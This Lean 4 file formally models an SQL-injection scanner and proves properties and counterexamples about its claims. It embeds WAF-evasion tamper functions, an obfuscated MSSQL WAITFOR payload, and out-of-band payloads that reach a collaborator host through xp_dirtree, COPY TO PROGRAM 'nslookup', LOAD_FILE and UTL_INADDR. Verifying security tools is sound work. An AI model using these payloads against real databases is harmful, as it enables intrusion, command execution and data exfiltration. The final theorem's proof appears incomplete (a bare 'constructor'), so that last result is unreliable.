import Mathlib

/-!
Verification of the sqli-hunter detection engine: shallow embedding of the
core modules (`sqli_hunter/tamper.py`, `sqli_hunter/ast_payload_generator.py`,
`sqli_hunter/scanner.py`) and proofs about the embedded operations.

Python floats are embedded as exact rationals (every value reached by the
rate limiter and the bandit is dyadic, so the embedding is exact); Python's
global random stream is made an explicit argument; the external `simhash`
library's 64-bit fingerprint distance is abstracted as a function parameter.
-/

namespace SqliHunter

/-! Embedding of `src/sqli_hunter/tamper.py`. -/

/-- Source of random booleans standing for Python's global `random` stream:
`coins i` is the coin drawn at step `i`. -/
abbrev Coins := Nat → Bool

/-- Function `space_to_comment`: `payload.replace(" ", "/**/")`. -/
def space_to_comment (payload : String) : String := payload.replace " " "/**/"

/-- Function `random_case`: each character's case is chosen by a coin
(`random.choice([c.upper(), c.lower()])`); coin `true` picks the upper-case
variant. -/
def random_case (coins : Coins) (payload : String) : String :=
  String.mk (payload.data.enum.map fun p => if coins p.1 then p.2.toUpper else p.2.toLower)

/-- Function `equal_to_like`: `payload.replace("=", " LIKE ")`. -/
def equal_to_like (payload : String) : String := payload.replace "=" " LIKE "

/-- Word character, modelling the regex class `\w` for the ASCII payloads the
scanner produces. -/
def wordChar (c : Char) : Bool := c.isAlphanum || c == '_'

/-- Case-insensitive character comparison (ASCII, as in `(?i)` patterns over
the scanner's payload alphabet). -/
def charEqCI (a b : Char) : Bool := a.toLower == b.toLower

/-- Tries to read keyword `k` (case-insensitively) at the head of `cs`;
returns the matched source characters and the remainder. -/
def matchKeyword : List Char → List Char → Option (List Char × List Char)
  | [], cs => some ([], cs)
  | _ :: _, [] => none
  | k :: ks, c :: cs =>
    if charEqCI c k then
      match matchKeyword ks cs with
      | some (m, rest) => some (c :: m, rest)
      | none => none
    else none

/-- Tries each keyword of an alternation in order at the current position,
requiring a word boundary after the match (the boundary on the left is
checked by the caller). -/
def matchAnyKeyword (kws : List (List Char)) (cs : List Char) :
    Option (List Char × List Char) :=
  match kws with
  | [] => none
  | k :: rest =>
    match matchKeyword k cs with
    | some (m, r) =>
      if m.isEmpty then matchAnyKeyword rest cs
      else if (r.head?.map wordChar).getD false then matchAnyKeyword rest cs
      else some (m, r)
    | none => matchAnyKeyword rest cs

/-- One left-to-right pass of `re.sub(r'(?i)\b(K1|K2|..)\b', repl, s)`:
`wrapRepl` receives the matched text, so replacements that keep the match
(backreference style) preserve its case. `prevWord` tracks whether the
previous character was a word character (the left `\b` boundary); `fuel`
bounds the recursion by the input length, each step consuming at least one
character. -/
def subWordsAux (kws : List (List Char)) (wrapRepl : List Char → List Char) :
    Nat → Bool → List Char → List Char
  | 0, _, cs => cs
  | _ + 1, _, [] => []
  | fuel + 1, prevWord, c :: cs =>
    match (if prevWord then none else matchAnyKeyword kws (c :: cs)) with
    | some (m, rest) => wrapRepl m ++ subWordsAux kws wrapRepl fuel true rest
    | none => c :: subWordsAux kws wrapRepl fuel (wordChar c) cs

/-- Case-insensitive whole-word substitution over a string. -/
def subWords (kws : List String) (wrapRepl : String → String) (s : String) : String :=
  String.mk (subWordsAux (kws.map String.data)
    (fun m => (wrapRepl (String.mk m)).data) s.data.length false s.data)

/-- Function `versioned_keywords`:
`re.sub(r'(?i)\b(UNION|SELECT)\b', r'/*!50000\1*/', payload)`. -/
def versioned_keywords (payload : String) : String :=
  subWords ["UNION", "SELECT"] (fun m => "/*!50000" ++ m ++ "*/") payload

/-- Function `keyword_substitution`:
`payload.replace(" AND ", "&&").replace(" OR ", "||")`. -/
def keyword_substitution (payload : String) : String :=
  (payload.replace " AND " "&&").replace " OR " "||"

/-- Function `split_keywords_by_comment`: two successive case-insensitive
whole-word substitutions with fixed lower-case replacement strings. -/
def split_keywords_by_comment (payload : String) : String :=
  subWords ["select"] (fun _ => "sel/**/ect")
    (subWords ["union"] (fun _ => "un/**/ion") payload)

/-- Function `function_synonyms`: `substring` becomes `MID`, then `benchmark`
becomes `SLEEP`. -/
def function_synonyms (payload : String) : String :=
  subWords ["benchmark"] (fun _ => "SLEEP")
    (subWords ["substring"] (fun _ => "MID") payload)

/-- Function `comment_around_keywords`:
`re.sub(r'(?i)\b(SELECT|UNION|AND|OR|FROM)\b', r'/*\1*/', payload)`. -/
def comment_around_keywords (payload : String) : String :=
  subWords ["SELECT", "UNION", "AND", "OR", "FROM"] (fun m => "/*" ++ m ++ "*/") payload

/-- Table `TAMPER_FUNCTIONS`: the enabled tamper scripts keyed by name, in
source order (the commented-out entries `urlencode`, `chardoubleencode`,
`space2randomblank`, `hexencodekeywords`, `addnullbyte` are absent). Every
entry is given the explicit random stream; all except `randomcase` ignore
it. -/
def TAMPER_FUNCTIONS : List (String × (Coins → String → String)) :=
  [("space2comment", fun _ => space_to_comment),
   ("randomcase", random_case),
   ("equaltolike", fun _ => equal_to_like),
   ("versionedkeywords", fun _ => versioned_keywords),
   ("keywordsubstitution", fun _ => keyword_substitution),
   ("splitkeywords", fun _ => split_keywords_by_comment),
   ("functionsynonyms", fun _ => function_synonyms),
   ("commentaroundkeywords", fun _ => comment_around_keywords)]

/-- Dictionary lookup `TAMPER_FUNCTIONS.get(name)`. -/
def lookupTamper (name : String) : Option (Coins → String → String) :=
  (TAMPER_FUNCTIONS.find? (fun p => p.1 == name)).map Prod.snd

/-- Worker for `apply_tampers`, with the random stream made explicit: the
`j`-th tamper function actually applied draws from `coins j`; a name absent
from `TAMPER_FUNCTIONS` is skipped and consumes no randomness (Python's
`TAMPER_FUNCTIONS.get` returning `None`). -/
def apply_tampersAux (coins : Nat → Coins) : Nat → String → List String → String
  | _, payload, [] => payload
  | j, payload, name :: rest =>
    match lookupTamper name with
    | some f => apply_tampersAux coins (j + 1) (f (coins j) payload) rest
    | none => apply_tampersAux coins j payload rest

/-- Function `apply_tampers`: applies a list of tamper scripts sequentially. -/
def apply_tampers (coins : Nat → Coins) (payload : String) (tamper_list : List String) :
    String :=
  apply_tampersAux coins 0 payload tamper_list

/-- Map `WAF_TTP`: WAF-specific seed chains priming the bandit. -/
def WAF_TTP : List (String × List (List String)) :=
  [("Cloudflare", [["versionedkeywords"], ["space2randomblank", "randomcase"]]),
   ("AWS WAF", [["space2comment"]]),
   ("Imperva (Incapsula)", [["urlencode", "randomcase"]])]

/-- Built-in chain list from `TamperSelector.__init__`. -/
def initialChains : List (List String) :=
  [[], ["space2comment"], ["randomcase", "space2comment"], ["versionedkeywords"],
   ["space2randomblank", "randomcase"], ["equaltolike"],
   ["hexencodekeywords", "addnullbyte"], ["chardoubleencode"]]

/-- Bandit statistics of one chain: running mean `value` and sample `count`. -/
structure ChainStat where
  value : ℚ
  count : Nat
deriving DecidableEq

/-- State of `TamperSelector`: `stats` is the insertion-ordered dictionary
from chains to their statistics. -/
structure TamperSelector where
  epsilon : ℚ
  chains : List (List String)
  stats : List (List String × ChainStat)
deriving DecidableEq

/-- Python's `max(dict, key=lambda c: stats[c]['value'])` over the insertion
order: the best entry is replaced only on a strictly greater value, so the
first key of maximal value wins. -/
def bestByValue (first : List String × ChainStat) :
    List (List String × ChainStat) → List String × ChainStat
  | [] => first
  | e :: rest => bestByValue (if e.2.value > first.2.value then e else first) rest

/-- Method `select_chain`, with the two random draws explicit: `r` is the
value of `random.random()` (so `0 ≤ r < 1`) and `pick` indexes the
`random.choice` fallbacks. -/
def select_chain (sel : TamperSelector) (r : ℚ) (pick : Nat) : List String :=
  if r < sel.epsilon then (sel.chains.getD (pick % sel.chains.length) [])
  else
    match sel.stats with
    | [] => sel.chains.getD (pick % sel.chains.length) []
    | e :: rest => (bestByValue e rest).1

/-- Read of the defaultdict `self.stats[chain]`: the stored entry, or the
default `{'value': 0.0, 'count': 0}`. -/
def getStat (stats : List (List String × ChainStat)) (chain : List String) : ChainStat :=
  ((stats.find? (fun p => p.1 == chain)).map Prod.snd).getD ⟨0, 0⟩

/-- Write-back into the insertion-ordered dictionary (defaultdict access
inserts a fresh entry at the end when the key is new). -/
def setStat (stats : List (List String × ChainStat)) (chain : List String)
    (st : ChainStat) : List (List String × ChainStat) :=
  if stats.any (fun p => p.1 == chain) then
    stats.map (fun p => if p.1 == chain then (p.1, st) else p)
  else stats ++ [(chain, st)]

/-- Method `update_stats`: registers unknown chains, then performs the
incremental-mean update `value + (reward - value) / (count + 1)`. -/
def update_stats (sel : TamperSelector) (chain : List String) (reward : ℚ) :
    TamperSelector :=
  let chains := if sel.chains.contains chain then sel.chains else sel.chains ++ [chain]
  let stat := getStat sel.stats chain
  let newValue := stat.value + (reward - stat.value) / (stat.count + 1)
  ⟨sel.epsilon, chains, setStat sel.stats chain ⟨newValue, stat.count + 1⟩⟩

/-! Embedding of `src/sqli_hunter/ast_payload_generator.py`. The external
sqlglot library is modelled by a small expression type covering exactly the
node shapes the generator builds, together with a serializer for them. -/

/-- Model of the sqlglot expression nodes used by the generator. The
constructors `eqTo` and `likeTo` mirror `exp.EQ(this=l, to=r)` and
`exp.Like(this=l, to=r)`: the keyword argument `to` is not a slot the
serializer reads, so the right operand is carried but not printed; `andArgs`
mirrors `exp.And(left=.., right=..)` whose operands land under unread
argument names. -/
inductive SqlExpr
  | boolean (b : Bool)
  | numLit (n : Int)
  | strLit (s : String)
  | ident (name : String)
  | anonymousFn (name : String) (params : List SqlExpr)
  | andE (l r : SqlExpr)
  | orE (l r : SqlExpr)
  | likeE (l r : SqlExpr)
  | eqE (l r : SqlExpr)
  | eqTo (l r : SqlExpr)
  | likeTo (l r : SqlExpr)
  | andArgs
  | orArgs
  | rawSql (s : String)

/-- Serialization model of sqlglot's generator on the nodes above (a missing
`this`/`expression` slot serializes as the empty string). -/
def sqlSerialize : SqlExpr → String
  | .boolean true => "TRUE"
  | .boolean false => "FALSE"
  | .numLit n => toString n
  | .strLit s => "'" ++ s ++ "'"
  | .ident name => name
  | .anonymousFn name ps =>
    name ++ "(" ++ String.intercalate ", " (ps.attach.map fun x => sqlSerialize x.1) ++ ")"
  | .andE l r => sqlSerialize l ++ " AND " ++ sqlSerialize r
  | .orE l r => sqlSerialize l ++ " OR " ++ sqlSerialize r
  | .likeE l r => sqlSerialize l ++ " LIKE " ++ sqlSerialize r
  | .eqE l r => sqlSerialize l ++ " = " ++ sqlSerialize r
  | .eqTo l _ => sqlSerialize l ++ " = "
  | .likeTo l _ => sqlSerialize l ++ " LIKE "
  | .andArgs => " AND "
  | .orArgs => " OR "
  | .rawSql s => s
termination_by e => sizeOf e
decreasing_by
  all_goals simp_wf
  all_goals try omega
  have := List.sizeOf_lt_of_mem x.2
  omega

/-- Python `str.strip()` on the ASCII whitespace characters it removes. -/
def pyWhitespace (c : Char) : Bool :=
  c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\x0b' || c == '\x0c'

/-- Python `payload.strip()`. -/
def pyStrip (s : String) : String :=
  String.mk (((s.data.dropWhile pyWhitespace).reverse.dropWhile pyWhitespace).reverse)

/-- Python `s.startswith(';')`: the first character is a semicolon. -/
def startsWithSemicolon (s : String) : Bool := s.data.head? == some ';'

/-- Method `_contextualize_string_payload` (textually identical in
`AstPayloadGenerator` and `Scanner`): adds context-specific prefixes and
suffixes to a raw string payload. -/
def contextualize_string_payload (payload : String) (context : String) : String :=
  if context == "HTML_ATTRIBUTE_SINGLE_QUOTED" || context == "JS_STRING_SINGLE_QUOTED" ||
      context == "HTML_ATTRIBUTE" then
    "'" ++ payload ++ "-- "
  else if context == "HTML_ATTRIBUTE_DOUBLE_QUOTED" || context == "JS_STRING_DOUBLE_QUOTED" then
    "\"" ++ payload ++ "-- "
  else
    if startsWithSemicolon (pyStrip payload) then "'" ++ payload ++ "-- "
    else payload ++ "-- "

/-- Method `_build_sql`: serialize with a leading space, then contextualize. -/
def build_sql (e : SqlExpr) (context : String) : String :=
  contextualize_string_payload (" " ++ sqlSerialize e) context

/-- Hex digit characters for `bytes.hex()`. -/
def hexDigit (n : Nat) : Char :=
  if n < 10 then Char.ofNat (48 + n) else Char.ofNat (87 + n)

/-- Python `s.encode().hex()` for the ASCII strings the generator feeds it. -/
def hexOfString (s : String) : String :=
  String.mk (s.data.foldr
    (fun c acc => hexDigit (c.toNat % 256 / 16) :: hexDigit (c.toNat % 16) :: acc) [])

/-- Options dictionary consumed by `generate` (`options.get("sleep_time", 5)`
and `options.get("collaborator_url")`). -/
structure GenOptions where
  sleep_time : Option Int
  collaborator_url : Option String
deriving DecidableEq

/-- Normalization in `AstPayloadGenerator.__init__`:
`dialect.lower() if dialect else "mysql"`. -/
def normalizeDialect (dialect : Option String) : String :=
  match dialect with
  | none => "mysql"
  | some s => if s == "" then "mysql" else s.toLower

/-- Method `_generate_time_based`. The random AST mutation of
`_apply_ast_transformations` is abstracted as the `transform` argument
(applied exactly where the source applies it, when `tamper` is set). -/
def generate_time_based (dialect : String) (transform : SqlExpr → SqlExpr)
    (sleepTime : Int) (context : String) (tamper : Bool) : List (String × String) :=
  if dialect == "mssql" then
    let delayStr := "0:0:" ++ toString sleepTime
    let hexEncoded := "0x57414954464F522044454C41592027" ++ hexOfString delayStr ++ "27"
    let fragment := ";DECLARE @S VARCHAR(4000);SET @S=CAST(" ++ hexEncoded ++
      " AS VARCHAR(4000));EXEC(@S);--"
    [(contextualize_string_payload fragment context, "MSSQL_WAITFOR_OBFUSCATED")]
  else
    let sleepFunc : SqlExpr :=
      if dialect == "postgresql" then .anonymousFn "pg_sleep" [.numLit sleepTime]
      else if dialect == "sqlite" then
        .rawSql ("(SELECT 1 WHERE LENGTH(HEX(RANDOMBLOB(" ++
          toString (max 500000 (sleepTime * 500000)) ++ "))) > 0) IS NOT NULL")
      else .anonymousFn "SLEEP" [.numLit sleepTime]
    let tag := dialect.toUpper ++ "_SLEEP"
    let base := [SqlExpr.andE, SqlExpr.orE].map (fun op =>
      let cond := op (.boolean true) sleepFunc
      let cond := if tamper then transform cond else cond
      (build_sql cond context, tag))
    if dialect == "mysql" then
      base ++ [0, 1].map (fun (_ : Nat) =>
        (build_sql SqlExpr.andArgs context, "MYSQL_BENCHMARK"))
    else base

/-- Method `_generate_boolean_based`: true/false condition pairs under AND
and OR wrapping, contextualized. -/
def generate_boolean_based (transform : SqlExpr → SqlExpr) (context : String)
    (tamper : Bool) : List (String × String × String) :=
  let conditions : List (SqlExpr × SqlExpr) :=
    [(.eqTo (.numLit 1) (.numLit 1), .eqTo (.numLit 1) (.numLit 2)),
     (.likeTo (.strLit "a") (.strLit "a"), .likeTo (.strLit "a") (.strLit "b"))]
  conditions.flatMap (fun tf =>
    let trueCond := if tamper then transform tf.1 else tf.1
    let falseCond := if tamper then transform tf.2 else tf.2
    [(SqlExpr.andE, "LOGICAL_AND"), (SqlExpr.orE, "LOGICAL_OR")].map (fun opTag =>
      (build_sql (opTag.1 (.boolean true) trueCond) context,
       build_sql (opTag.1 (.boolean true) falseCond) context, opTag.2)))

/-- Domain extraction at the top of `_generate_oob`: strip the scheme when
the collaborator URL contains `://`. -/
def stripScheme (url : String) : String :=
  match url.splitOn "://" with
  | _ :: second :: _ => second
  | _ => url

/-- Method `_generate_oob`: dialect-specific out-of-band primitives; dialects
without one yield the empty list. -/
def generate_oob (dialect : String) (collaboratorUrl : String) (context : String) :
    List (String × String) :=
  let url := stripScheme collaboratorUrl
  let pf : String × String :=
    if dialect == "mssql" then
      (";EXEC master..xp_dirtree '\\\\" ++ url ++ "\\a'", "MSSQL_XP_DIRTREE")
    else if dialect == "postgresql" then
      (";COPY (SELECT '') TO PROGRAM 'nslookup " ++ url ++ "'", "POSTGRES_COPY_PROGRAM")
    else if dialect == "oracle" then
      (" AND UTL_INADDR.GET_HOST_ADDRESS('" ++ url ++ "') IS NOT NULL", "ORACLE_UTL_INADDR")
    else if dialect == "mysql" then
      (" AND LOAD_FILE('\\\\" ++ url ++ "\\a')", "MYSQL_LOAD_FILE")
    else ("", "")
  if pf.1 == "" then []
  else [(contextualize_string_payload pf.1 context, pf.2)]

/-- Generated payloads: a single payload or a true/false pair, with the
family tag. -/
inductive GeneratedPayload
  | single (sql family : String)
  | pair (trueSql falseSql family : String)
deriving DecidableEq

/-- Method `AstPayloadGenerator.generate`: dispatch on the payload type;
unsupported types, and OOB without a collaborator URL, return the empty
list. -/
def generate (dialect : String) (transform : SqlExpr → SqlExpr) (payloadType : String)
    (context : String) (options : GenOptions) (tamper : Bool) : List GeneratedPayload :=
  if payloadType == "TIME_BASED" then
    (generate_time_based dialect transform (options.sleep_time.getD 5) context tamper).map
      (fun p => .single p.1 p.2)
  else if payloadType == "BOOLEAN_BASED" then
    (generate_boolean_based transform context tamper).map (fun p => .pair p.1 p.2.1 p.2.2)
  else if payloadType == "OOB" then
    match options.collaborator_url with
    | some u => (generate_oob dialect u context).map (fun p => .single p.1 p.2)
    | none => []
  else []

/-! Embedding of `src/sqli_hunter/scanner.py`. -/

/-- Constant `MAX_BACKOFF_DELAY`. -/
def MAX_BACKOFF_DELAY : ℚ := 60

/-- Rate-limit fields of `Scanner` (`rate_limit_active`, `rate_limit_delay`,
`successful_requests_since_rl`); the float delay becomes an exact rational
(all reached values are dyadic, so the embedding is exact). -/
structure RateLimitState where
  active : Bool
  delay : ℚ
  clean : Nat
deriving DecidableEq

/-- Initial values from `Scanner.__init__`. -/
def initRateLimit : RateLimitState := ⟨false, 1, 0⟩

/-- Method `_update_rate_limit_status`, applied once per observed response. -/
def update_rate_limit_status (st : RateLimitState) (status : Int) (isWafBlock : Bool) :
    RateLimitState :=
  if status = 429 ∨ status = 503 then
    ⟨true, min (st.delay * 2) MAX_BACKOFF_DELAY, 0⟩
  else if st.active = true ∧ isWafBlock = false then
    if st.clean + 1 ≥ 10 then
      ⟨if max 1 (st.delay / 2) = 1 then false else st.active, max 1 (st.delay / 2), 0⟩
    else ⟨st.active, st.delay, st.clean + 1⟩
  else st

/-- Folding `_update_rate_limit_status` over a sequence of observed
responses, each a pair of HTTP status and WAF-block flag. -/
def runRateLimit (st : RateLimitState) (obs : List (Int × Bool)) : RateLimitState :=
  obs.foldl (fun s o => update_rate_limit_status s o.1 o.2) st

/-- Invariant of the rate limiter's reachable states. -/
def RLInv (st : RateLimitState) : Prop :=
  1 ≤ st.delay ∧ st.delay ≤ 60 ∧ (st.active = false → st.delay = 1) ∧
    (st.active = true → 1 < st.delay) ∧ st.clean < 10

instance (st : RateLimitState) : Decidable (RLInv st) := by
  unfold RLInv; infer_instance

/-- Decision of `_confirm_boolean_anomaly` on the two confirmation
responses: report exactly when both bodies are present and non-empty
(Python truthiness of the body strings) and their fingerprints differ by
more than 5. The 64-bit Simhash Hamming distance of the external `simhash`
library is abstracted as `dist`; the baseline fingerprint is not an input
of this check. -/
def confirm_boolean_anomaly (dist : String → String → Nat)
    (trueBody falseBody : Option String) : Bool :=
  match trueBody, falseBody with
  | some t, some f => !(t == "") && !(f == "") && decide (dist t f > 5)
  | _, _ => false

/-- Reply of the transport to one payload: the body (`None` on a request
exception) and the WAF-block flag. -/
structure ProbeReply where
  body : Option String
  blocked : Bool

/-- Python truthiness test `not body` used by the scan loops. -/
def bodyFalsy : Option String → Bool
  | none => true
  | some s => s == ""

/-- Decision loop of `_boolean_based_ast_scan` over the generated true/false
pairs: blocked or body-less responses are skipped; a fingerprint distance
above 5 between the TRUE and FALSE bodies reports a vulnerability and stops.
The transport is the function `respond`, the fingerprint distance `dist`.
The baseline is not consulted. -/
def boolean_based_ast_scan (dist : String → String → Nat)
    (respond : String → ProbeReply) : List (String × String × String) → Bool
  | [] => false
  | (tPay, fPay, _) :: rest =>
    let tr := respond tPay
    if tr.blocked || bodyFalsy tr.body then boolean_based_ast_scan dist respond rest
    else
      let fr := respond fPay
      if fr.blocked || bodyFalsy fr.body then boolean_based_ast_scan dist respond rest
      else if dist (tr.body.getD "") (fr.body.getD "") > 5 then true
      else boolean_based_ast_scan dist respond rest

/-- Stored record of `_report_vulnerability` (the fields relevant to
deduplication plus the distinguishing payload/technique data). -/
structure Vulnerability where
  url : String
  vulnType : String
  parameter : String
  payload : String
  tamperChain : List String
  method : String
  dialect : Option String
deriving DecidableEq

/-- Method `_report_vulnerability`: append the record unless some stored
record already has the same `(url, parameter)` pair. -/
def report_vulnerability (points : List Vulnerability) (v : Vulnerability) :
    List Vulnerability :=
  if points.any (fun w => w.url == v.url && w.parameter == v.parameter) then points
  else points ++ [v]

/-- Result set after a sequence of findings is reported, starting from the
empty `vulnerable_points` list. -/
def runReports (findings : List Vulnerability) : List Vulnerability :=
  findings.foldl report_vulnerability []

/-- Technique attempts of `scan_target` on one parameter. `fuzzAnomaly` is
`_fuzz_parameter_for_anomalies` (which internally performs taint analysis,
error-based detection and boolean confirmation); `timeBased` is listed in
the claimed state machine but is never emitted by `scan_target`. -/
inductive Technique
  | fuzzAnomaly
  | timeBased
  | unionBased
  | astBoolean
deriving DecidableEq

/-- Per-parameter technique sequence of `scan_target`: the anomaly fuzz
pass, then the UNION-based scan, then the AST boolean scan, each skipped
once an earlier technique confirms a vulnerability (`if is_vuln: return`).
The booleans tell whether each technique, when attempted, confirms. -/
def scanParamAttempts (fuzz uni _ast : Bool) : List Technique :=
  .fuzzAnomaly :: (if fuzz then [] else .unionBased :: (if uni then [] else [.astBoolean]))

/-- Whether the parameter scan confirmed a vulnerability. -/
def scanParamFound (fuzz uni ast : Bool) : Bool := fuzz || uni || ast

/-- Technique attempts of `scan_target` over the target's parameters
(indexed from `i`, `n` parameters remaining): a confirmed vulnerability
returns from `scan_target`, so no later parameter is scanned. The oracle
gives each parameter's technique outcomes. -/
def scanTargetAttempts (oracle : Nat → Bool × Bool × Bool) : Nat → Nat →
    List (Nat × Technique)
  | _, 0 => []
  | i, n + 1 =>
    ((scanParamAttempts (oracle i).1 (oracle i).2.1 (oracle i).2.2).map (fun t => (i, t))) ++
      (if scanParamFound (oracle i).1 (oracle i).2.1 (oracle i).2.2 then []
       else scanTargetAttempts oracle (i + 1) n)

/-- Concrete fingerprint-distance function used to exhibit behaviour of the
boolean confirmation on distinct pages: distinct bodies are maximally far
(64, the full Simhash width), identical bodies at distance 0. -/
def distFarEx : String → String → Nat := fun a b => if a = b then 0 else 64

/-! Theorems. -/

/-- C1, counterexample: the boolean confirmation of `_confirm_boolean_anomaly`
does not take the baseline fingerprint into account. With a fingerprint
distance under which the TRUE response is maximally far (64 of 64 bits) from
the baseline body, the check still reports a vulnerability as soon as the
TRUE and FALSE bodies differ by more than 5 — contradicting the claim that a
TRUE response far from baseline is never reported. -/
theorem boolean_confirm_reports_far_from_baseline :
    confirm_boolean_anomaly distFarEx (some "T") (some "F") = true ∧
      distFarEx "BASELINE" "T" = 64 ∧ 5 < distFarEx "BASELINE" "T" := by
  decide

/-- C1 (amended): boolean confirmation reports a hit exactly when both the
TRUE and the FALSE confirmation responses are present and non-empty and
their content fingerprints differ by more than 5; the baseline fingerprint
is not consulted (it is not even an input of the check), and the AST-based
boolean scan reports exactly when some generated pair yields two unblocked,
non-empty bodies at fingerprint distance above 5. -/
theorem boolean_confirm_checks_only_true_false_distance :
    (∀ (dist : String → String → Nat) (t f : Option String),
      confirm_boolean_anomaly dist t f = true ↔
        ∃ tb fb, t = some tb ∧ f = some fb ∧ tb ≠ "" ∧ fb ≠ "" ∧ dist tb fb > 5) ∧
    (∀ (dist : String → String → Nat) (respond : String → ProbeReply)
        (pairs : List (String × String × String)),
      boolean_based_ast_scan dist respond pairs = true ↔
        ∃ p ∈ pairs, (respond p.1).blocked = false ∧ bodyFalsy (respond p.1).body = false ∧
          (respond p.2.1).blocked = false ∧ bodyFalsy (respond p.2.1).body = false ∧
          dist ((respond p.1).body.getD "") ((respond p.2.1).body.getD "") > 5) := by
  constructor
  · intro dist t f
    cases t with
    | none => simp [confirm_boolean_anomaly]
    | some tb =>
      cases f with
      | none => simp [confirm_boolean_anomaly]
      | some fb =>
        simp only [confirm_boolean_anomaly, Bool.and_eq_true, Bool.not_eq_true',
          beq_eq_false_iff_ne, decide_eq_true_eq, Option.some.injEq]
        constructor
        · rintro ⟨⟨h1, h2⟩, h3⟩
          exact ⟨tb, fb, rfl, rfl, h1, h2, h3⟩
        · rintro ⟨tb', fb', h1, h2, h3, h4, h5⟩
          subst h1; subst h2
          exact ⟨⟨h3, h4⟩, h5⟩
  · intro dist respond pairs
    induction pairs with
    | nil => simp [boolean_based_ast_scan]
    | cons p rest ih =>
      obtain ⟨tPay, fPay, fam⟩ := p
      rw [boolean_based_ast_scan]
      by_cases h1 : (respond tPay).blocked || bodyFalsy (respond tPay).body
      · rw [if_pos h1, ih]
        simp only [Bool.or_eq_true] at h1
        constructor
        · rintro ⟨q, hq, hrest⟩
          exact ⟨q, List.mem_cons_of_mem _ hq, hrest⟩
        · rintro ⟨q, hq, hrest⟩
          rcases List.mem_cons.mp hq with rfl | hq'
          · rcases h1 with h1 | h1
            · rw [hrest.1] at h1; cases h1
            · rw [hrest.2.1] at h1; cases h1
          · exact ⟨q, hq', hrest⟩
      · rw [if_neg h1]
        simp only [Bool.or_eq_true, not_or, Bool.not_eq_true] at h1
        by_cases h2 : (respond fPay).blocked || bodyFalsy (respond fPay).body
        · rw [if_pos h2, ih]
          simp only [Bool.or_eq_true] at h2
          constructor
          · rintro ⟨q, hq, hrest⟩
            exact ⟨q, List.mem_cons_of_mem _ hq, hrest⟩
          · rintro ⟨q, hq, hrest⟩
            rcases List.mem_cons.mp hq with rfl | hq'
            · rcases h2 with h2 | h2
              · rw [hrest.2.2.1] at h2; cases h2
              · rw [hrest.2.2.2.1] at h2; cases h2
            · exact ⟨q, hq', hrest⟩
        · rw [if_neg h2]
          simp only [Bool.or_eq_true, not_or, Bool.not_eq_true] at h2
          by_cases h3 : dist ((respond tPay).body.getD "") ((respond fPay).body.getD "") > 5
          · rw [if_pos h3]
            simp only [true_iff]
            exact ⟨(tPay, fPay, fam), List.mem_cons_self _ _,
              h1.1, h1.2, h2.1, h2.2, h3⟩
          · rw [if_neg h3, ih]
            constructor
            · rintro ⟨q, hq, hrest⟩
              exact ⟨q, List.mem_cons_of_mem _ hq, hrest⟩
            · rintro ⟨q, hq, hrest⟩
              rcases List.mem_cons.mp hq with rfl | hq'
              · exact absurd hrest.2.2.2.2 h3
              · exact ⟨q, hq', hrest⟩

/-- C2, counterexample: with every technique failing, the attempts made on
one parameter are the anomaly fuzz pass, then the UNION-based scan, then the
AST boolean scan — there is no time-based attempt at all, and the UNION scan
runs strictly before the boolean scan, contradicting the claimed order
(time-based before boolean-based, union-based last after boolean-based). -/
theorem scan_order_counterexample :
    scanParamAttempts false false false =
      [Technique.fuzzAnomaly, Technique.unionBased, Technique.astBoolean] ∧
    Technique.timeBased ∉ scanParamAttempts false false false ∧
    (scanParamAttempts false false false).indexOf Technique.unionBased <
      (scanParamAttempts false false false).indexOf Technique.astBoolean := by
  decide

/-- C2 (amended): per parameter, `scan_target` attempts, strictly
sequentially and each terminal on success, the anomaly fuzz pass (which
internally performs taint analysis, error-based detection and boolean
confirmation), then the UNION-based scan, then the AST boolean scan; no
time-based detection is attempted; a confirmed vulnerability short-circuits
the rest of the target's scan (no later parameter is scanned). -/
theorem scan_order_fuzz_union_ast :
    (∀ f u a, Technique.timeBased ∉ scanParamAttempts f u a) ∧
    (∀ f u a, f = true → scanParamAttempts f u a = [Technique.fuzzAnomaly]) ∧
    (∀ f u a, f = false → u = true →
      scanParamAttempts f u a = [Technique.fuzzAnomaly, Technique.unionBased]) ∧
    (∀ f u a, f = false → u = false →
      scanParamAttempts f u a =
        [Technique.fuzzAnomaly, Technique.unionBased, Technique.astBoolean]) ∧
    (∀ oracle i n, scanParamFound (oracle i).1 (oracle i).2.1 (oracle i).2.2 = true →
      scanTargetAttempts oracle i (n + 1) =
        (scanParamAttempts (oracle i).1 (oracle i).2.1 (oracle i).2.2).map
          (fun t => (i, t))) := by
  refine ⟨?_, ?_, ?_, ?_, ?_⟩
  · intro f u a; cases f <;> cases u <;> simp [scanParamAttempts]
  · rintro f u a rfl; rfl
  · rintro f u a rfl rfl; rfl
  · rintro f u a rfl rfl; rfl
  · intro oracle i n h
    rw [scanTargetAttempts, h]
    simp

/-- C2, witness for the amended theorem at concrete technique outcomes. -/
theorem scan_order_fuzz_union_ast_witness :
    scanParamAttempts true false false = [Technique.fuzzAnomaly] ∧
    scanParamAttempts false true false = [Technique.fuzzAnomaly, Technique.unionBased] :=
  ⟨scan_order_fuzz_union_ast.2.1 true false false rfl,
   scan_order_fuzz_union_ast.2.2.1 false true false rfl rfl⟩

/-- C6, counterexample: re-applying the context-wrapping step to an
already-wrapped payload in the single-quoted attribute context double-wraps
it, producing a duplicate leading quote. -/
theorem contextualize_double_wrap_counterexample :
    contextualize_string_payload
        (contextualize_string_payload " AND 1=1" "HTML_ATTRIBUTE_SINGLE_QUOTED")
        "HTML_ATTRIBUTE_SINGLE_QUOTED" = "'' AND 1=1-- " ++ "-- " ∧
    ("'' AND 1=1-- " ++ "-- ").take 2 = "''" := by
  constructor <;> decide

/-- C6 (amended): the context-wrapping step is not idempotent. Re-applying
it in a quoted context wraps again: the result is the already-wrapped
payload with one more leading quote and one more comment suffix, so a
duplicate leading quote character is introduced (only the unknown/text
contexts avoid a quote, and only for payloads not starting with a
semicolon). -/
theorem contextualize_rewrap_adds_second_quote :
    (∀ p c, (c = "HTML_ATTRIBUTE_SINGLE_QUOTED" ∨ c = "JS_STRING_SINGLE_QUOTED" ∨
        c = "HTML_ATTRIBUTE") →
      contextualize_string_payload (contextualize_string_payload p c) c =
        "'" ++ ("'" ++ p ++ "-- ") ++ "-- ") ∧
    (∀ p c, (c = "HTML_ATTRIBUTE_DOUBLE_QUOTED" ∨ c = "JS_STRING_DOUBLE_QUOTED") →
      contextualize_string_payload (contextualize_string_payload p c) c =
        "\"" ++ ("\"" ++ p ++ "-- ") ++ "-- ") := by
  constructor
